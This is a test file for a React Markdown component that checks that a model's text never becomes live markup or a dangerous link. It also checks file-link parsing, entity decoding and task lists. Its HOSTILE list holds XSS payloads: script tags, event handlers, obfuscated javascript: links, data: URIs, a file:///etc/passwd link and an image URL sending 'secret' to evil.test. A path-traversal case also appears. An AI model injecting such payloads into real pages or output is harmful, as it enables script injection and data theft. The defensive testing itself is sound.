import { render } from '@testing-library/react'
import { describe, expect, it } from 'vitest'
import { targetOf } from '@/components/markdown/link'
import { Markdown } from '@/components/markdown/Markdown'

const html = (text: string, streaming = false) =>
  render(<Markdown text={text} streaming={streaming} />).container

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'inline <b onmouseover=alert(1)>html</b> here',
  '<iframe src="https://evil.test"></iframe>',
  '<svg><script>alert(1)</script></svg>',
  '<style>body{display:none}</style>',
  '![p](https://evil.test/?q=secret)',
  '![p](data:image/svg+xml;base64,PHN2Zz4=)',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java\tscript:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](vbscript:x)',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](file:///etc/passwd)',
  '[a](//evil.test)',
  '<javascript:alert(1)>',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <a href="javascript:alert(1)">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]

describe('the text of a model never becomes markup or a dangerous link', () => {
  for (const text of HOSTILE) {
    it(JSON.stringify(text), () => {
      for (const streaming of [false, true]) {
        const page = html(text, streaming)
        expect(page.querySelector('script, img, iframe, style, object, embed, form')).toBeNull()
        for (const element of page.querySelectorAll('*')) {
          for (const { name } of element.attributes) expect(name).not.toMatch(/^on/)
        }
        for (const link of page.querySelectorAll('a')) {
          expect(link.getAttribute('href')).toMatch(/^(https?:|mailto:)/)
          expect(link.rel).toBe('noreferrer noopener')
        }
      }
    })
  }
  it('raw HTML shows as text', () => {
    expect(html('a <b>c</b>').textContent).toContain('<b>c</b>')
  })
  it('a remote picture becomes a link', () => {
    expect(html('![cat](https://e.com/c.png)').querySelector('a')?.textContent).toContain('cat')
  })
})

it('links lead to the web, to mail, or to a file of the home', () => {
  expect(targetOf('https://e.com')).toEqual({ kind: 'web', href: 'https://e.com' })
  expect(targetOf('memory/MEMORY.md')).toEqual({
    kind: 'file',
    place: { path: 'memory/MEMORY.md', lines: null },
  })
  expect(targetOf('./skills/a%20b/SKILL.md#x')).toEqual({
    kind: 'file',
    place: { path: 'skills/a b/SKILL.md', lines: null },
  })
  expect(targetOf('knowledge/a.md:3-4')).toEqual({
    kind: 'file',
    place: { path: 'knowledge/a.md', lines: [3, 4] },
  })
  expect(targetOf('memory/../../etc/passwd')).toEqual({ kind: 'none' })
})

it('renders common Markdown', () => {
  const page = html('# T\n\n**b** *i* ~~d~~ `c`\n\n1. x\n\n- [x] y\n\n| a |\n|--:|\n| 1 |\n\n> q\n\n---\n')
  for (const tag of [
    'h3',
    'strong',
    'em',
    'del',
    'code',
    'ol',
    'ul',
    'input[checked]',
    'table',
    'blockquote',
    'hr',
  ]) {
    expect(page.querySelector(tag), tag).not.toBeNull()
  }
  expect(page.textContent).not.toContain('**')
})

it('shows characters, not their entities', () => {
  expect(html('a < b & "c" `x < y`').textContent).toBe('a < b & "c" x < y')
})

it('character references are decoded in text and links, but not in code', () => {
  const shown = (text: string) => html(text).textContent
  expect(shown('&mdash; &#8212; &#x2014; &ouml;')).toBe('— — — ö')
  expect(shown('`&lt;br&gt; &amp;mdash;`')).toBe('&lt;br&gt; &amp;mdash;')
  expect(shown('&nosuch; &copycat; &copy &#0; &#xd800; &semi;')).toBe(
    '&nosuch; &copycat; &copy \ufffd \ufffd ;',
  )
  expect(html('[a](https://e.com/?a=1&amp;b=2)').querySelector('a')?.getAttribute('href')).toBe(
    'https://e.com/?a=1&b=2',
  )
  expect(html('[a](javascript&colon;alert(1))').querySelector('a')).toBeNull()
  expect(html('&lt;img src=x&gt;').querySelector('img')).toBeNull()
})

it('a task has a checkbox and no brackets, in a loose list too', () => {
  for (const text of ['- [x] a\n- [ ] b', '- [x] a\n\n- [ ] b\n\n  more']) {
    const page = html(text)
    expect(page.querySelectorAll('input[type=checkbox]')).toHaveLength(2)
    expect(page.querySelectorAll('input[checked]')).toHaveLength(1)
    expect(page.textContent).not.toMatch(/[[\]]/)
  }
})
